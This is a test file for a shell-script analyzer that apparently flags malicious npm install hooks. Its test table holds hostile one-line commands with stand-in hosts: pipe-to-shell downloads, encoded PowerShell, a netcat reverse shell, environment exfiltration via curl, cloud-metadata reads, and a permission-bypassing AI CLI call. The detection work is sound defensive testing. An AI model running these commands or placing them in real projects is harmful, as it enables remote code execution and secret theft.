import { describe, expect, it } from 'vitest';
import { SignalSet } from '../../src/scripts/evidence.js';
import { analyzeShell, parseShell, programOf } from '../../src/scripts/shell.js';

const words = (text: string) => parseShell(text).pipelines.map((pipeline) => pipeline.map((command) => command.words));

describe('shell tokenizer', () => {
  it('splits lists and pipes, keeps quoted words whole, records lines', () => {
    expect(words(`a 'b c' "d \\"e\\"" && f | g; h || i & j\nk`)).toEqual([[['a', 'b c', 'd "e"']], [['f'], ['g']], [['h']], [['i']], [['j']], [['k']]]);
    expect(parseShell('a\n\nb').pipelines.map((pipeline) => pipeline[0]!.line)).toEqual([1, 3]);
  });

  it('reads command substitutions as scripts of their own', () => {
    expect(parseShell('echo $(curl -s https://x.example.test) `id`').substitutions.map(({ text }) => text)).toEqual(['curl -s https://x.example.test', 'id']);
  });

  it('finds the program behind variables, sudo and env, and drops redirections', () => {
    expect(programOf(['FOO=1', 'sudo', '-E', '/usr/bin/curl', '-s', 'u', '2>/dev/null', '>', 'out'])).toEqual({ program: 'curl', args: ['-s', 'u'] });
  });
});

describe('shell signals', () => {
  const kinds = (script: string) => {
    const signals = new SignalSet();
    const refs = analyzeShell(script, 'package.json#scripts.postinstall', signals);
    return { kinds: signals.all.map(({ kind }) => kind), refs: refs.map(({ kind, value }) => `${kind}:${value}`) };
  };

  it.each([
    ['curl -fsSL https://x.example.test/i.sh | bash', 'download-and-execute'],
    ['wget -qO- https://x.example.test/i | sh -s -- --yes', 'download-and-execute'],
    ['echo aGk= | base64 -d | sh', 'decode-then-execute'],
    ['powershell -enc SQBFAFgA', 'decode-then-execute'],
    ['powershell -Command "iwr https://x.example.test/a.ps1 | iex"', 'download-and-execute'],
    ['nc -e /bin/sh shell.example.test 4444', 'reverse-shell'],
    ['trufflehog filesystem ~ --json', 'secret-scanner'],
    ['claude -p "find keys" --dangerously-skip-permissions', 'ai-cli-bypass'],
    ['rundll32.exe lib.dll,Run', 'loads-native-library'],
    ['env | curl -d @- https://x.example.test', 'exfiltrates'],
    ['curl -s http://169.254.169.254/latest/meta-data/', 'reads-cloud-metadata'],
    ['cp evil.yml .github/workflows/ci.yml', 'writes-workflow'],
  ])('%s → %s', (script, kind) => {
    expect(kinds(script).kinds).toContain(kind);
  });

  it('ordinary build steps say nothing', () => {
    for (const script of [
      'node-gyp rebuild',
      'prebuild-install -r napi || node-gyp rebuild',
      'node-pre-gyp install --fallback-to-build',
      'husky install',
      'opencollective-postinstall || exit 0',
    ]) {
      expect(kinds(script).kinds).toEqual([]);
    }
  });

  it('hands files and inline code to the follower', () => {
    expect(kinds('node install.js && node --no-warnings ./scripts/a.mjs; sh setup.sh').refs).toEqual([
      'file:install.js',
      'file:./scripts/a.mjs',
      'file:setup.sh',
    ]);
    expect(kinds(`node -e "try{require('./postinstall')}catch(e){}" || exit 0`).refs).toEqual([`inline:try{require('./postinstall')}catch(e){}`]);
    expect(kinds('bash -c "node x.js"').refs).toEqual(['file:x.js']);
  });
});
